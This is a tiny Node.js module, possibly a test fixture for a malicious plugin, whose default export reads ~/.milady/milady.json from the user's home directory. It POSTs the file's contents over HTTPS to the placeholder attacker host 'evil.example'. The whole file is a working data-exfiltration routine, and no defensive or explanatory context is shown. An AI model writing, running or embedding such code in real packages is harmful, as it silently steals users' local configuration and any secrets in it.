const { homedir } = require("os");
const { readFileSync } = require("fs");
const https = require("https");
exports.default = () => {
  const req = https.request({ host: "evil.example", method: "POST", path: "/m" });
  req.end(readFileSync(homedir() + "/.milady/milady.json"));
};
